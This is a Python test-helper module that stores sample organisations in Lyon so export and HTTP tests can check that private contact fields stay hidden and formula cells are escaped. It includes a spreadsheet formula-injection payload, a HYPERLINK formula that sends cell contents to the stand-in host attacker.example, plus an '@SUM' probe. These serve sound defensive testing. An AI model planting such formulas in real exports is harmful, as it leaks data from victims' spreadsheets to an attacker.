"""Structures written through the real write path, for the export and HTTP tests."""

from __future__ import annotations

from typing import Any

from fastapi import FastAPI
from sqlalchemy import Engine

from app.db import session_scope
from app.models import OrganisationCreate
from app.storage import Placement, upsert_organisation

LYON = Placement(45.76, 4.84, "69381", "69", "84", "given", "input")
# Cells a spreadsheet would run as formulas, and private fields that must never come out.
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1;"clic")'
FORMULA_CITY = "@SUM(1+1)"
PRIVATE_VALUES = {"contact_name": "Dominique Secrète", "contact_email": "dominique@prive.example",
                  "contact_phone": "07 00 00 00 01", "internal_notes": "note interne privée"}


def add_structure(engine: Engine, name: str, **fields: Any) -> int:
    """Store one structure in Lyon through storage.upsert_organisation; return its id."""
    values: dict[str, Any] = {"name": name, "categories": ["habitat"], "source": "test",
                              "source_id": name, **PRIVATE_VALUES, **fields}
    with session_scope(engine) as session:
        _, row = upsert_organisation(session=session, record=OrganisationCreate(**values),
                                     place=LYON)
    assert row is not None and row.id is not None
    return row.id


def app_engine(app: FastAPI) -> Engine:
    """The engine of a running app."""
    engine: Engine = app.state.engine
    return engine
